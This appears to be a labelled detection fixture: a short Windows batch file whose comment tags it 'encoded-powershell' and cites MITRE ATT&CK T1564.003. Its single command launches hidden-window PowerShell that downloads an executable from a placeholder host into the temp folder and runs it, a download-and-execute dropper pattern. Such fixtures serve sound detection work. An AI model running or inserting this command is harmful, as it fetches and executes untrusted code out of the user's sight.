@rem expect: encoded-powershell | source: MITRE ATT&CK T1564.003
start /min "" powershell -WindowStyle Hidden -Command "Start-BitsTransfer http://files.example.invalid/a.exe $env:TEMP\a.exe; & $env:TEMP\a.exe"
